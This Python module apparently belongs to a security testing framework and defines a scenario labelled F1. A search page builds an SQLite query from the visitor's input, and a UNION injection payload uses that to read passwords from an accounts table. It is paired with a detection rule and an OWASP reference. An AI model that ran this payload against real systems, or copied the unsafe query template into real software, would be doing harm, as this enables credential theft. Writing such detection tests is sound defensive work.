"""F1: an injected UNION reads passwords out of another table."""

from typing import ClassVar

from backwatch.attack.clients.sqlite3 import SQLite
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import SearchPage
from backwatch.attack.techniques.sqlite import LOOT, DatabaseFile


class SqliteUnionInjected(SearchPage):
    """A page writes what its visitor searches for into the statement."""

    code = "F1"
    attack = "reads a table of passwords through a UNION that a search field let in"
    reference = "https://owasp.org/www-community/attacks/SQL_Injection"
    rule = "query-attack"
    server = DatabaseFile
    searches: ClassVar = {SQLite.protocol: "SELECT id, name, mail FROM customers WHERE name = '{}' ORDER BY id"}
    injected = "nobody' UNION SELECT id, name, password FROM accounts -- "
    shows = LOOT
    runs = (Run(SQLite),)
